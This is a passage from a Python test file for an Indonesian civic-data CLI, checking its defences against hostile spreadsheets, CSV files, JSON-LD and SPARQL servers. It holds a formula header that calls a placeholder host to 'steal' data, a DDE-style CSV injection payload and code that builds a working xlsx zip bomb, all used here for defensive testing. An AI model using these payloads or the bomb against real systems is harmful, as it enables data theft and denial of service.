"""Hostile input and server faults: no live formula, no network fetch,
no bomb, no crash, no silent corruption.

Each test runs the command a user would run and asserts the exit code and the
exact line they read. The SPARQL server cases use small local HTTP servers
that misbehave on purpose; the Virtuoso crash test lives in
``tests/test_endpoint_durability.py``.
"""
from __future__ import annotations

import pathlib
import re
import shutil
import subprocess
import sys
import zipfile

import pytest
from click.testing import CliRunner

from cli import main

ROOT = pathlib.Path(__file__).resolve().parents[1]
BASE = ROOT / "tests" / "data" / "ingest" / "base"
FORMULA_HEADER = '=WEBSERVICE("http://example.invalid/steal")'


def city(tmp_path, name="kota", **tables) -> pathlib.Path:
    """A copy of the valid base city; ``tables`` replaces files (bytes or text)."""
    folder = tmp_path / name
    shutil.copytree(BASE, folder)
    for table, content in tables.items():
        path = folder / f"{table}.csv"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return folder


def base_text(table) -> str:
    return (BASE / f"{table}.csv").read_text(encoding="utf-8")


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def error_line(output: str) -> str:
    """The last line of a failed command without click's prefix ("Error: ", or
    "Kesalahan: " when click speaks Bahasa Indonesia)."""
    last = output.splitlines()[-1]
    for prefix in ("Error: ", "Kesalahan: "):
        if last.startswith(prefix):
            return last[len(prefix):]
    return last


def formula_cells(path) -> list[str]:
    """Every cell formula (``<f>`` element) in the worksheets of an .xlsx file."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >/].*?(?:</f>|/>)", archive.read(name).decode("utf-8"))
    return found


# ------------------------------------------------------------- 1. formula headers
def with_formula_header(tmp_path):
    text = base_text("programs").splitlines()
    text[0] += f',"{FORMULA_HEADER.replace(chr(34), chr(34) * 2)}"'
    text[1] += ",x"
    return city(tmp_path, programs="\n".join(text) + "\n")


def test_merge_writes_a_formula_header_as_text_and_the_workbook_loads_again(tmp_path):
    source = with_formula_header(tmp_path)
    target = tmp_path / "kota.xlsx"
    result = run("merge", source, "-o", target)
    assert result.exit_code == 0, result.output
    assert formula_cells(target) == []
    again = run("merge", target, "-o", tmp_path / "lagi.xlsx")
    assert again.exit_code == 0, again.output
    assert formula_cells(tmp_path / "lagi.xlsx") == []
    import openpyxl

    header = [c.value for c in openpyxl.load_workbook(tmp_path / "lagi.xlsx")["programs"][1]]
    assert header[-1] == FORMULA_HEADER.lower()  # extra columns keep their folded name


def test_a_carriage_return_inside_a_cell_survives_a_merge_into_a_folder(tmp_path):
    # a quoted cell may hold a bare CR (a line break typed in Excel on an old Mac, pasted text):
    # written unquoted, as csv.writer writes it, the merged folder split that row in two
    from synergy.ingest import load_model

    source = tmp_path / "kota"
    source.mkdir()
    (source / "agencies.csv").write_bytes(b'id,name\nA1,"Dinas\rSatu"\nA2,Dinas Dua\n')
    (source / "programs.csv").write_bytes(b'id,name,agency,description\nP1,"Aplikasi\rSurat",A1,"desc\rx"\n'
                                          b'P2,Aplikasi Surat,A2,desc\n')
    result = run("merge", source, "-o", tmp_path / "gabung")
    assert result.exit_code == 0, result.output
    model, _ = load_model(tmp_path / "gabung")
    assert model.programs["name"].tolist() == ["Aplikasi\rSurat", "Aplikasi Surat"]
    assert model.programs["description"].tolist() == ["desc\rx", "desc"]
    assert model.agencies["name"].tolist() == ["Dinas\rSatu", "Dinas Dua"]


def test_template_for_an_agency_writes_a_formula_header_as_text(tmp_path):
    source = with_formula_header(tmp_path)
    target = tmp_path / "formulir.xlsx"
    result = run("template", source, "--agency", "DISKOMINFOTIK", "-o", target)
    assert result.exit_code == 0, result.output
    assert formula_cells(target) == []
    import openpyxl

    header = [c.value for c in openpyxl.load_workbook(target)["programs"][1]]
    assert FORMULA_HEADER.lower() in header


@pytest.mark.parametrize("command", [["merge", "-o", "kota.xlsx"], ["template", "--agency", "DISKOMINFOTIK", "-o",
                                                                      "formulir.xlsx"]])
def test_a_control_character_in_a_header_is_named_not_an_internal_error(tmp_path, command):
    text = base_text("programs").splitlines()
    text[0] += ',"catatan\x01x"'
    text[1] += ",y"
    source = city(tmp_path, programs="\n".join(text) + "\n")
    result = run(command[0], source, *command[1:-1], tmp_path / command[-1])
    assert result.exit_code == 1
    assert error_line(result.output) == (
        "programs:1: catatan\\x01x: karakter kendali di nama kolom tidak bisa disimpan di Excel; ganti nama "
        "kolomnya / a control character in the column name cannot be stored in Excel; rename the column")
    assert not (tmp_path / command[-1]).exists()


# ------------------------------------------------------------------ 11. smaller
def test_merge_refuses_a_macro_workbook_name(tmp_path):
    result = run("merge", city(tmp_path), "-o", tmp_path / "kota.xlsm")
    assert result.exit_code == 1
    assert error_line(result.output) == (
        f"{tmp_path / 'kota.xlsm'}: synergy menulis buku kerja tanpa makro; beri nama berakhiran .xlsx / "
        "synergy writes workbooks without macros; give a name ending in .xlsx")
    assert not (tmp_path / "kota.xlsm").exists()


def test_template_refuses_a_macro_workbook_name(tmp_path):
    result = run("template", "-o", tmp_path / "formulir.xlsm")
    assert result.exit_code == 2
    assert "formulir harus berkas .xlsx" in result.output
    assert not (tmp_path / "formulir.xlsm").exists()


def test_a_parent_cycle_between_agencies_is_an_error(tmp_path):
    agencies = base_text("agencies").replace(
        "DISKOMINFOTIK,\"Dinas Komunikasi, Informatika dan Statistik\",Diskominfotik,dinas,2.16;2.20;2.21,,",
        "DISKOMINFOTIK,\"Dinas Komunikasi, Informatika dan Statistik\",Diskominfotik,dinas,2.16;2.20;2.21,DINKES,",
    ).replace("DINKES,Dinas Kesehatan,Dinkes,dinas,1.02,,", "DINKES,Dinas Kesehatan,Dinkes,dinas,1.02,DISKOMINFOTIK,")
    result = run("validate", city(tmp_path, agencies=agencies))
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert lines[:2] == [
        "agencies.csv:2: parent: OPD induk membentuk lingkaran: DISKOMINFOTIK -> DINKES -> DISKOMINFOTIK; "
        "hapus salah satu induknya / parent agencies form a cycle: DISKOMINFOTIK -> DINKES -> DISKOMINFOTIK; "
        "remove one of the parents",
        "agencies.csv:3: parent: OPD induk membentuk lingkaran: DINKES -> DISKOMINFOTIK -> DINKES; "
        "hapus salah satu induknya / parent agencies form a cycle: DINKES -> DISKOMINFOTIK -> DINKES; "
        "remove one of the parents",
    ]
    assert lines[-1] == "2 kesalahan, 0 peringatan / 2 errors, 0 warnings"


def test_csv_formula_guard_holds_for_semicolon_excel():
    from synergy.output import csv_safe, render
    import pandas as pd

    assert csv_safe("P-1;=HYPERLINK(\"http://x\")") == "P-1;'=HYPERLINK(\"http://x\")"
    assert csv_safe("a;+1;b;@SUM(A1)") == "a;'+1;b;'@SUM(A1)"
    assert csv_safe("a\t=cmd") == "a\t'=cmd"
    assert csv_safe("DS-1;DS-2") == "DS-1;DS-2"  # an ordinary list stays as it is
    text = render(pd.DataFrame({"programs": ["P-1;=cmd|' /C calc'!A0"]}), "csv")
    assert text == "programs\nP-1;'=cmd|' /C calc'!A0\n"


# ------------------------------------------------------------ 6. numbers past int64
HUGE = "99999999999999999999999"
TOO_LARGE = (f"anggaran '{HUGE}' terlalu besar: lebih dari Rp 10.000 triliun; periksa jumlah angka nolnya / "
             f"budget '{HUGE}' is too large: more than Rp 10,000 trillion; check the number of zeros")


def test_a_budget_past_int64_in_csv_is_a_cell_problem(tmp_path):
    programs = base_text("programs").replace("DINKES,living,health,150000000,", f"DINKES,living,health,{HUGE},")
    source = city(tmp_path, programs=programs)
    for command in (["validate"], ["stats"], ["export", "-o", tmp_path / "k.ttl"], ["report", "-o", tmp_path / "r.html"],
                    ["stats", "--store", tmp_path / "store"]):
        result = run(command[0], source, *command[1:])
        assert result.exit_code == 1, (command, result.output)
        assert f"programs.csv:3: budget: {TOO_LARGE}" in result.output.splitlines(), command
        assert "internal error" not in result.output


def test_a_budget_past_int64_in_turtle_is_a_cell_problem(tmp_path):
    assert run("export", BASE, "-o", tmp_path / "kota.ttl").exit_code == 0
    path = tmp_path / "kota.ttl"
    path.write_text(path.read_text(encoding="utf-8").replace("syn:budget 150000000 ;", f"syn:budget {HUGE} ;"),
                    encoding="utf-8")
    for command in (["validate"], ["stats"], ["export", "-o", tmp_path / "k.nt"], ["report", "-o", tmp_path / "r.html"],
                    ["stats", "--store", tmp_path / "store"]):
        result = run(command[0], path, *command[1:])
        assert result.exit_code == 1, (command, result.output)
        assert f"kota.ttl[programs]:2: budget: {TOO_LARGE}" in result.output.splitlines(), command


def test_budgets_whose_sum_passes_int64_are_refused(tmp_path):
    rows = [base_text("programs").rstrip("\n")]
    rows += [f"P-{i:04d},Program {i},DINKES,living,health,Rp 9.000 triliun,2024,2025,short,planned,,,," for i in range(1100)]
    result = run("validate", city(tmp_path, programs="\n".join(rows) + "\n"))
    assert result.exit_code == 1
    assert result.output.splitlines()[0].startswith(
        "programs.csv: budget: jumlah anggaran seluruh program (Rp 9.900.000.000.400.000.000) terlalu besar "
        "untuk dihitung; periksa anggaran yang kelebihan angka nol / the budgets of all programs add up to more than "
        "can be counted")


# ------------------------------------------------------------ 5. one Latin-1 byte
def test_one_latin1_line_in_a_utf8_file_keeps_the_other_accents_and_is_named(tmp_path):
    agencies = base_text("agencies").replace("Dinas Kesehatan,Dinkes", "Dinas Kesehatan Négeri,Dinkes")
    data = agencies.encode("utf-8") + "DISDIK,Dinas Pendidikan Kécamatan,Disdik,dinas,1.01,,,35.75\n".encode("cp1252")
    source = city(tmp_path, agencies=data)
    result = run("validate", source)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [
        "agencies.csv:7: name: warning: baris ini tidak tertulis dalam UTF-8 seperti baris lainnya; dibaca sebagai "
        "Windows-1252 ('Dinas Pendidikan Kécamatan'): periksa hurufnya, lalu simpan dari Excel sebagai \"CSV UTF-8\" / "
        "this row is not UTF-8 like the rest of the file; read as Windows-1252 ('Dinas Pendidikan Kécamatan'): check "
        "its letters, then save it from Excel as \"CSV UTF-8 (Comma delimited) (*.csv)\"",
        "0 kesalahan, 1 peringatan / 0 errors, 1 warning",
    ]
    from synergy.ingest import load_model

    names = set(load_model([source])[0].agencies["name"])
    assert {"Dinas Kesehatan Négeri", "Dinas Pendidikan Kécamatan"} <= names  # no mojibake anywhere


def test_a_whole_windows_1252_file_is_still_read_without_a_warning(tmp_path):
    agencies = base_text("agencies").replace("Dinas Kesehatan,Dinkes", "Dinas Kesehatan Négeri,Dinkes")
    result = run("validate", city(tmp_path, agencies=agencies.encode("cp1252")))
    assert result.exit_code == 0
    assert result.output.splitlines() == ["0 kesalahan, 0 peringatan / 0 errors, 0 warnings"]


# -------------------------------------------------------------- 9. unclear messages
def test_an_unclosed_quote_names_the_quote_and_the_row_it_opens_on(tmp_path):
    programs = base_text("programs").replace("P-002,Posyandu Digital,", 'P-002,"Posyandu Digital,')
    result = run("validate", city(tmp_path, programs=programs))
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        'programs.csv:3: name: tanda kutip pembuka sel ini ("Posyandu Digital,DINKES…) tidak pernah ditutup, '
        "sehingga semua baris sesudahnya sampai akhir berkas terbaca sebagai isi sel ini: tutup kutipnya di akhir "
        'sel atau hapus / the opening quote of this cell ("Posyandu Digital,DINKES…) is never closed, so every line '
        "after it to the end of the file was read into this cell: close the quote at the end of the cell or remove it",
        "1 kesalahan, 0 peringatan / 1 error, 0 warnings",
    ]


def test_a_quote_closed_rows_later_names_the_row_it_opens_on(tmp_path):
    programs = base_text("programs").replace("P-001,Aplikasi", 'P-001,"Aplikasi').replace(
        "DINKES,living,health,", 'DINKES,living,health",')
    result = run("validate", city(tmp_path, programs=programs))
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        'programs.csv:2: name: tanda kutip pembuka sel ini ("Aplikasi Pengaduan e-Sa…) baru ditutup 1 baris '
        "kemudian, sehingga baris-baris di antaranya terbaca sebagai isi sel ini: tutup kutipnya di akhir sel / "
        'the opening quote of this cell ("Aplikasi Pengaduan e-Sa…) closes only 1 line(s) further on, so the rows '
        "in between were read into this cell: close the quote at the end of the cell")
    assert "OPD '150000000' tidak dikenal" not in result.output  # no line per shifted cell


def _disk_full(*args, **kwargs):
    import errno
    import os

    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # as the kernel says it: no file named


@pytest.mark.parametrize("command", [["export", "-o", "kota.ttl"], ["report", "-o", "laporan.html"],
                                     ["stats", "--format", "csv", "-o", "statistik.csv"]])
def test_a_full_disk_names_the_file(tmp_path, monkeypatch, command):
    import os

    class Full:  # what os.fdopen hands write_text_atomic on a full disk: a file whose write fails
        def __init__(self, fd, mode):
            os.close(fd)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

        write = _disk_full

    monkeypatch.setattr("synergy.output.os.fdopen", Full)
    target = tmp_path / command[-1]
    result = run(command[0], BASE, *command[1:-1], target)
    assert result.exit_code == 1
    assert error_line(result.output) == (
        f"disk penuh: berkas {target} tidak dapat ditulis; kosongkan ruang disk lalu jalankan lagi / "
        f"disk full: cannot write {target}; free some disk space and run again")
    assert not target.exists() and not list(tmp_path.glob(".*.tmp"))


def test_a_full_disk_while_merging_into_a_folder_names_the_folder(tmp_path, monkeypatch):
    monkeypatch.setattr("pathlib.Path.write_text", _disk_full)
    target = tmp_path / "kota"
    result = run("merge", BASE, "-o", target)
    assert result.exit_code == 1
    assert error_line(result.output) == (
        f"disk penuh: berkas {target} tidak dapat ditulis; kosongkan ruang disk lalu jalankan lagi / "
        f"disk full: cannot write {target}; free some disk space and run again")
    assert not target.exists()


@pytest.mark.parametrize("content, line", [
    (None, "ckan/: tidak ada berkas .json di folder ini / no .json file in this folder"),
    (b'{"success": true, "result": {"count": 1}}',
     "p0.json: bukan jawaban CKAN package_search, package_show atau organization_list: simpan JSON dari "
     "/api/3/action/package_search?rows=1000 (satu berkas per halaman) / not a CKAN package_search, package_show or "
     "organization_list response: save the JSON of /api/3/action/package_search?rows=1000 (one file per page)"),
    (b"\xff\xfe{", "p0.json: bukan teks UTF-8: simpan jawaban API apa adanya / "
                   "not UTF-8 text: save the API response as it came"),
])
def test_import_ckan_problem_lines_are_in_both_languages(tmp_path, content, line):
    folder = tmp_path / "ckan"
    folder.mkdir()
    if content is not None:
        (folder / "p0.json").write_bytes(content)
    result = run("import-ckan", folder, "-o", tmp_path / "katalog")
    assert result.exit_code == 1
    assert line in result.output.splitlines()


def test_a_one_megabyte_cell_names_the_cell_and_what_to_do(tmp_path):
    datasets = base_text("datasets").replace("Data Penduduk per Kelurahan", "Data " + "x" * 1_000_000)
    result = run("validate", city(tmp_path, datasets=datasets))
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "datasets.csv:2: name: sel berisi 1000005 karakter, melebihi batas 10000: persingkat isinya / "
        "cell has 1000005 characters, more than the 10000 allowed: shorten it",
        "1 kesalahan, 0 peringatan / 1 error, 0 warnings",
    ]


# ----------------------------------------------------------------- 3. xlsx zip bomb
def _zip_entry(name: str, data: bytes, crc: int, size: int) -> tuple[bytes, bytes]:
    """The local header (with data) and the central directory record of one deflated entry."""
    import struct

    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                          len(encoded), 0, 0, 0, 0, 0, 0)
    return local + encoded + data, central + encoded


def workbook_with_huge_sheet(path, *, rows_xml: bytes, repeat: int, sheet="programs"):
    """A real workbook (agencies, programs, datasets) whose ``sheet`` holds the base
    city's rows followed by ``rows_xml`` repeated ``repeat`` times: the sheet's XML
    is written as one deflate stream built from a single compressed block, so a
    file of a few MB claims (truly) gigabytes, as a zip bomb does."""
    import io
    import struct
    import zlib

    import openpyxl

    book = io.BytesIO()
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for table in ("agencies", "programs", "datasets"):
        ws = wb.create_sheet(table)
        for row in base_text(table).splitlines():
            import csv

            ws.append(next(csv.reader([row])))
    wb.save(book)
    index = ["agencies", "programs", "datasets"].index(sheet) + 1
    records, directory, offset = [], [], 0
    with zipfile.ZipFile(book) as source:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == f"xl/worksheets/sheet{index}.xml":
                head, tail = data.split(b"</sheetData>")
                tail = b"</sheetData>" + tail
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                block = packer.compress(rows_xml) + packer.flush(zlib.Z_FULL_FLUSH)
                start = zlib.compressobj(9, zlib.DEFLATED, -15)
                first = start.compress(head) + start.flush(zlib.Z_FULL_FLUSH)
                end = zlib.compressobj(9, zlib.DEFLATED, -15)
                last = end.compress(tail) + end.flush(zlib.Z_FINISH)
                packed = first + block * repeat + last
                crc = zlib.crc32(head)
                for _ in range(repeat):
                    crc = zlib.crc32(rows_xml, crc)
                crc = zlib.crc32(tail, crc)
                size = len(head) + len(rows_xml) * repeat + len(tail)
            else:
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed = packer.compress(data) + packer.flush()
                crc, size = zlib.crc32(data), len(data)
            local, central = _zip_entry(info.filename, packed, crc, size)
            directory.append(central[:42] + struct.pack("<I", offset) + central[46:])
            records.append(local)
            offset += len(local)
    central = b"".join(directory)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(directory), len(directory), len(central), offset, 0)
    pathlib.Path(path).write_bytes(b"".join(records) + central + end)
    return path


def run_measured(*args, timeout=60):
    """Run the synergy command in a child process: (exit code, stdout, stderr, seconds, peak MiB)."""
    import tempfile
    import time

    wrapper = ("import atexit, resource, runpy, sys\n"
               "report = sys.argv.pop(1)\n"
               "atexit.register(lambda: open(report, 'w').write(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)))\n"
               "sys.argv[0] = 'synergy'\n"
               "runpy.run_path('cli.py', run_name='__main__')\n")
    with tempfile.NamedTemporaryFile(suffix=".rss") as report:
        started = time.monotonic()
        done = subprocess.run([sys.executable, "-c", wrapper, report.name, *map(str, args)], capture_output=True,
                              text=True, cwd=ROOT, timeout=timeout)
        seconds = time.monotonic() - started
        peak = int(pathlib.Path(report.name).read_text() or 0) / 1024
    return done.returncode, done.stdout, done.stderr, seconds, peak


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory):
    """2 GB of sheet XML in a file of a few MB."""
    row = b'<row><c t="inlineStr"><is><t>P-1</t></is></c><c t="inlineStr"><is><t>Bom</t></is></c></row>'
    rows = row * (1_000_000 // len(row))
    path = tmp_path_factory.mktemp("bomb") / "kota.xlsx"
    return workbook_with_huge_sheet(path, rows_xml=rows, repeat=2_000_000_000 // len(rows))


def test_an_xlsx_zip_bomb_is_refused_at_once_with_bounded_memory(zip_bomb):
    assert zip_bomb.stat().st_size < 10 * 2**20
    with zipfile.ZipFile(zip_bomb) as archive:
        assert archive.getinfo("xl/worksheets/sheet2.xml").file_size > 2 * 10**9 - 2**20
    code, out, err, seconds, peak = run_measured("validate", zip_bomb)
    assert code == 1, err
    assert out.splitlines()[0] == (
        "kota.xlsx: buku kerja ini membengkak menjadi 1.907 MB saat dibuka, melebihi batas 256 MB: berkasnya rusak "
        "atau bukan buku kerja biasa; simpan ulang dari Excel, atau bagi datanya ke beberapa buku kerja, atau simpan "
        "sebagai CSV / this workbook unpacks to 1,907 MB, more than the 256 MB allowed: the file is damaged or not an "
        "ordinary workbook; save it again from Excel, or split the data over several workbooks, or save it as CSV")
    assert err == ""
    assert seconds < 20 and peak < 700, (seconds, peak)


def test_a_sheet_of_too_many_cells_stops_early_with_bounded_memory(tmp_path):
    """Under the size limits, but more cells than a workbook form holds: reading stops."""
    row = b"<row>" + b'<c t="inlineStr"><is><t>x</t></is></c>' * 20 + b"</row>"
    rows = row * 1000
    path = workbook_with_huge_sheet(tmp_path / "kota.xlsx", rows_xml=rows, repeat=200)  # 4 million cells
    code, out, err, seconds, peak = run_measured("validate", path)
    assert code == 1, err
    assert out.splitlines()[0] == (
        "kota.xlsx[programs]: lembar ini berisi lebih dari 500.000 sel (pembacaan berhenti di baris 25.002): "
        "bagi datanya ke beberapa buku kerja, atau simpan sebagai CSV / this sheet holds more than 500,000 cells "
        "(reading stopped at row 25,002): split the data over several workbooks, or save it as CSV")
    assert err == ""
    assert seconds < 20 and peak < 700, (seconds, peak)


def test_a_value_in_the_last_column_of_every_row_does_not_fill_the_gaps(tmp_path):
    row = b'<row><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>'
    path = workbook_with_huge_sheet(tmp_path / "kota.xlsx", rows_xml=row * 10_000, repeat=100)
    code, out, err, seconds, peak = run_measured("validate", path)
    assert code == 1, err
    assert out.splitlines()[0].startswith(
        "kota.xlsx[programs]: lembar ini berisi lebih dari 500.000 sel (pembacaan berhenti di baris ")
    assert seconds < 20 and peak < 700, (seconds, peak)


def test_a_row_past_excels_last_row_is_a_damaged_sheet(tmp_path):
    row = b'<row r="2000000000"><c t="inlineStr"><is><t>x</t></is></c></row>'
    path = workbook_with_huge_sheet(tmp_path / "kota.xlsx", rows_xml=row, repeat=1)
    result = run("validate", path)
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == (
        "kota.xlsx[programs]: lembar ini melewati batas Excel (1.048.576 baris, 16.384 kolom) di baris "
        "2.000.000.000: berkasnya rusak; simpan ulang dari Excel / this sheet goes past Excel's limits (1,048,576 "
        "rows, 16,384 columns) at row 2,000,000,000: the file is damaged; save it again from Excel")


def test_a_cell_pointing_past_the_shared_strings_names_the_cell(tmp_path):
    row = b'<row r="5"><c r="A5" t="inlineStr"><is><t>P-009</t></is></c><c r="B5" t="s"><v>99999</v></c></row>'
    path = workbook_with_huge_sheet(tmp_path / "kota.xlsx", rows_xml=row, repeat=1)
    result = run("validate", path)
    assert result.exit_code == 1
    assert ("kota.xlsx[programs]:5: name: sel ini tidak terbaca: ketik ulang isinya, lalu simpan dari Excel / "
            "cannot read this cell: type its content again, then save from Excel") in result.output.splitlines()


# ------------------------------------------------------- 2. JSON-LD fetches nothing
@pytest.fixture
def context_server():
    """A local HTTP server that serves a JSON-LD context and records every request."""
    import http.server
    import json
    import threading

    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            body = json.dumps({"@context": {"syn": "https://w3id.org/synergy/ontology#"}}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/ld+json")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()
        server.server_close()


def _jsonld_with(tmp_path, context) -> pathlib.Path:
    """The base city exported as JSON-LD, its context replaced by ``context``."""
    import json

    path = tmp_path / "kota.jsonld"
    assert run("export", BASE, "-o", path).exit_code == 0
    document = json.loads(path.read_text(encoding="utf-8"))
    embedded = document["@context"]
    document["@context"] = context(embedded) if callable(context) else context
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


def _refused(where) -> str:
    return (f"kota.jsonld: konteks JSON-LD dari dokumen lain ({where}) tidak dibaca: synergy tidak mengambil apa pun "
            "dari jaringan atau berkas lain; sisipkan konteksnya di dalam berkas, seperti hasil 'synergy export' / "
            f"a JSON-LD context from another document ({where}) is not read: synergy fetches nothing from the "
            "network or other files; embed the context in the file, as 'synergy export' does")


def test_a_remote_jsonld_context_is_refused_and_never_fetched(tmp_path, context_server):
    url, hits = context_server
    path = _jsonld_with(tmp_path, f"{url}/context.jsonld")
    for command in (["validate"], ["stats"]):
        result = run(command[0], path)
        assert result.exit_code == 1
        assert result.output.splitlines()[0] == _refused(f"@context: {url}/context.jsonld")
    assert hits == []


def test_a_jsonld_import_is_refused_and_never_fetched(tmp_path, context_server):
    url, hits = context_server
    path = _jsonld_with(tmp_path, lambda embedded: [{**embedded, "@import": f"{url}/more.jsonld"}])
    result = run("validate", path)
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == _refused(f"@import: {url}/more.jsonld")
    assert hits == []


def test_a_file_context_is_refused_not_opened(tmp_path):
    import json

    context = tmp_path / "context.jsonld"
    context.write_text(json.dumps({"@context": {"syn": "https://w3id.org/synergy/ontology#"}}), encoding="utf-8")
    path = _jsonld_with(tmp_path, lambda embedded: [context.as_uri(), embedded])
    result = run("validate", path)
    assert result.exit_code == 1
    assert result.output.splitlines()[0] == _refused(f"@context: {context.as_uri()}")


def test_the_embedded_context_of_an_export_still_loads(tmp_path):
    path = _jsonld_with(tmp_path, lambda embedded: embedded)
    result = run("validate", path)
    assert result.exit_code == 0, result.output


# ------------------------------------------------------- 8. no library noise leaks
def test_an_ill_typed_integer_in_turtle_gives_the_line_and_no_traceback(tmp_path):
    assert run("export", BASE, "-o", tmp_path / "kota.ttl").exit_code == 0
    path = tmp_path / "kota.ttl"
    path.write_text(path.read_text(encoding="utf-8").replace("syn:budget 150000000 ;", 'syn:budget "abc"^^xsd:integer ;'),
                    encoding="utf-8")
    # a child process: pytest's own log capture would hide what rdflib prints to a user's terminal
    for command in (["validate"], ["stats"]):
        done = subprocess.run([sys.executable, str(ROOT / "cli.py"), command[0], str(path)], capture_output=True,
                              text=True, cwd=ROOT, timeout=120)
        assert done.returncode == 1
        lines = (done.stdout + done.stderr).splitlines()
        assert ("kota.ttl[programs]:2: budget: anggaran 'abc' tidak terbaca sebagai rupiah (tulis mis. 1250000000, "
                "1.250.000.000 atau Rp 1,25 M) / cannot read budget 'abc' as rupiah (write e.g. 1250000000, "
                "1.250.000.000 or Rp 1,25 M)") in lines
        assert "Traceback" not in done.stderr and "Failed to convert" not in done.stderr, done.stderr


# ------------------------------------------------------------- 7. servers misbehave
@pytest.fixture
def bad_server():
    """A local HTTP server whose every answer is ``reply`` (bytes, or a callable
    given the handler), set by the test; ``silent=True`` accepts and never answers."""
    import http.server
    import threading

    state = {"reply": b"", "type": "application/sparql-results+json"}

    class Handler(http.server.BaseHTTPRequestHandler):
        def _answer(self):
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(length)
            reply = state["reply"]
            if callable(reply):
                return reply(self)
            self.send_response(200)
            self.send_header("Content-Type", state["type"])
            self.send_header("Content-Length", str(len(reply)))
            self.end_headers()
            self.wfile.write(reply)

        do_GET = do_POST = _answer

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/sparql", state
    finally:
        server.shutdown()
        server.server_close()


WRONG_SHAPES = {
    "a list": b"[]",
    "no results": b'{"head": {"vars": ["g", "n"]}}',
    "bindings not a list": b'{"head": {"vars": ["g", "n"]}, "results": {"bindings": {"g": 1}}}',
    "a value that is no term": b'{"head": {"vars": ["g", "n"]}, "results": {"bindings": [{"g": 5}]}}',
    "a missing variable": b'{"head": {"vars": ["g", "n"]}, "results": {"bindings": '
                          b'[{"g": {"type": "uri", "value": "https://w3id.org/synergy/id/graph/region/35.75"}}]}}',
    "a count that is no number": b'{"head": {"vars": ["g", "n"]}, "results": {"bindings": [{"g": {"type": "uri", '
                                 b'"value": "https://w3id.org/synergy/id/graph/region/35.75"}, "n": {"type": '
                                 b'"literal", "value": "banyak"}}]}}',
    "a boolean that is not": b'{"head": {}, "boolean": "ya"}',
}


@pytest.mark.parametrize("shape", sorted(WRONG_SHAPES))
def test_a_server_answering_json_of_the_wrong_shape_gives_a_clear_line(bad_server, shape):
    url, state = bad_server
    state["reply"] = WRONG_SHAPES[shape]
    for command in (["regions"], ["counts"], ["stats"], ["push", BASE, "--region", "35.75"]):
        result = run(*command, "--endpoint", url, "--timeout", "3")
        assert result.exit_code == 1, (command, result.output)
        last = error_line(result.output)
        assert last.startswith(f"jawaban server SPARQL di {url} tidak berbentuk hasil SPARQL ("), (command, last)
        assert f" / the answer of SPARQL server at {url} is not shaped like SPARQL results (" in last
        assert "internal error" not in result.output


def test_a_server_answering_html_gives_a_clear_line(bad_server):
    url, state = bad_server
    state["reply"], state["type"] = b"<html><body>Selamat datang</body></html>", "text/html"
    for command in (["regions"], ["sparql", "SELECT * WHERE { ?s ?p ?o }"], ["sparql", "CONSTRUCT WHERE { ?s ?p ?o }"]):
        result = run(*command, "--endpoint", url)
        assert result.exit_code == 1, (command, result.output)
        assert error_line(result.output) in (
            f"server SPARQL di {url} tidak menjawab dengan hasil SPARQL JSON: apakah URL-nya benar-benar "
            f"endpoint SPARQL? / SPARQL server at {url} did not answer with SPARQL JSON results: is the URL really a "
            "SPARQL endpoint?",
            f"server SPARQL di {url} tidak menjawab dengan N-Triples yang terbaca / SPARQL server at {url} did "
            "not answer with readable N-Triples")


def _never_answers(handler):
    import time

    time.sleep(60)


def _trickles(handler):
    """Headers, then one byte of a never-ending body every second."""
    import time

    handler.send_response(200)
    handler.send_header("Content-Type", "application/sparql-results+json")
    handler.end_headers()
    try:
        for _ in range(60):
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(1)
    except OSError:
        pass


@pytest.mark.parametrize("behaviour", [_never_answers, _trickles], ids=["silent", "trickling"])
def test_a_server_that_does_not_answer_in_time_stops_every_command_after_timeout(bad_server, behaviour):
    url, state = bad_server
    state["reply"] = behaviour
    for command in (["regions"], ["counts"], ["stats"], ["sparql", "ASK {}"], ["push", BASE, "--region", "35.75"]):
        code, out, err, seconds, peak = run_measured(*command, "--endpoint", url, "--timeout", "3")
        assert code == 1, (command, err)
        assert seconds < 20, (command, seconds)
        assert error_line(err) == (
